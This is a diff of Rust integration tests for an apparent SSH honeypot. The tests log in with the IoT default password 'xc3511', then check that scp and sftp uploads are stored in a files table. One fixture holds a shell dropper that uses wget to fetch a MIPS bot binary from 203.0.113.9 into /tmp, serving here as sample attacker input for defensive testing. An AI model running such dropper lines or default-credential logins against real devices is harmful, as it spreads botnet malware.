@@ -63,7 +63,14 @@ fn openssh_password_login_and_exec() {
         "sshpass -p xc3511 ssh {} -o PreferredAuthentications=password root@127.0.0.1 'uname -a; /bin/busybox ECCHI'",
         ssh_options(port)
     ));
-    assert!(out.contains("Linux router 3.10.14"), "{out}");
+    // The persona's host name, generated per install.
+    let persona = std::fs::read_to_string(sensor.dir().join("sensor.persona.toml")).unwrap();
+    let hostname = persona
+        .lines()
+        .find_map(|l| l.strip_prefix("hostname = "))
+        .unwrap()
+        .trim_matches('"');
+    assert!(out.contains(&format!("Linux {hostname} 3.10.14")), "{out}");
     assert!(out.contains("ECCHI: applet not found"), "{out}");
     assert_eq!(
         code,
@@ -355,17 +362,15 @@ fn scp_upload_is_recorded_as_a_written_file() {
     assert_eq!(
         rows(
             &conn,
-            "SELECT path, size, sha256, truncated, via FROM ssh WHERE eventType = 'file.written'"
+            "SELECT path, size, sha256, truncated, via FROM files"
         ),
         [["/tmp/x.sh", "54", &sha, "0", "scp"]]
     );
-    let data = rows(
-        &conn,
-        "SELECT data FROM ssh WHERE eventType = 'file.written'",
-    );
+    // The bytes themselves, in the store's files table.
+    let data = rows(&conn, "SELECT CAST(data AS TEXT) FROM files");
     assert_eq!(
         data[0][0],
-        "IyEvYmluL3NoCndnZXQgaHR0cDovLzIwMy4wLjExMy45L2JpbnMvbWlwcyAtTyAvdG1wL20K"
+        "#!/bin/sh\nwget http://203.0.113.9/bins/mips -O /tmp/m\n"
     );
     assert_eq!(
         rows(
@@ -472,12 +477,11 @@ fn sftp_uploads_are_recorded_as_written_files() {
     assert_eq!(
         rows(
             &conn,
-            "SELECT path, size, sha256, truncated, via, length(data) FROM ssh \
-             WHERE eventType = 'file.written' ORDER BY ID"
+            "SELECT path, size, sha256, truncated, via, length(data) FROM files ORDER BY ID"
         ),
         [
-            ["/tmp/bot", "100000", &sha, "1", "sftp", "87384"],
-            ["/var/tmp/b2", "100000", &sha, "1", "sftp", "87384"],
+            ["/tmp/bot", "100000", &sha, "1", "sftp", "65536"],
+            ["/var/tmp/b2", "100000", &sha, "1", "sftp", "65536"],
         ]
     );
 }
